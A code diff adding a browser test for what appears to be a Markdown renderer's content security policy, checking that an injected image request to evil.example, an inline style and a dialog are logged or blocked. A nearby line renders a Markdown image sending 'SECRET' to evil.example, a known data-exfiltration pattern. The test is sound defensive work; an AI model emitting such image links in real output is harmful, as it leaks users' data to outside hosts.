@@ -115,6 +115,23 @@ describe.skipIf(chromiumPath === null)("hostile Markdown in Chromium, under the 
     },
   );
 
+  it("would see a dialog, a request to another host and a style that the policy refuses", async () => {
+    await page.evaluate(async () => {
+      const image = document.createElement("img");
+      image.src = "https://evil.example/i";
+      const painted = document.createElement("div");
+      painted.setAttribute("style", "color: red");
+      document.body.append(image, painted);
+      await new Promise((resolve) => setTimeout(() => resolve(alert("seen"))));
+    });
+    await settle();
+    expect(incidents.dialogs).toEqual(["seen"]);
+    expect(incidents.errors.toSorted()).toEqual([
+      "policy: img-src https://evil.example/i",
+      "policy: style-src-attr inline",
+    ]);
+  });
+
   it("S21: an image of another host is fetched by nobody until a person follows its link", async () => {
     await page.evaluate(() => globalThis.stage.show("![chart](https://evil.example/?d=SECRET)", false));
     const card = page.getByRole("link", { name: /Image from evil\.example/ });
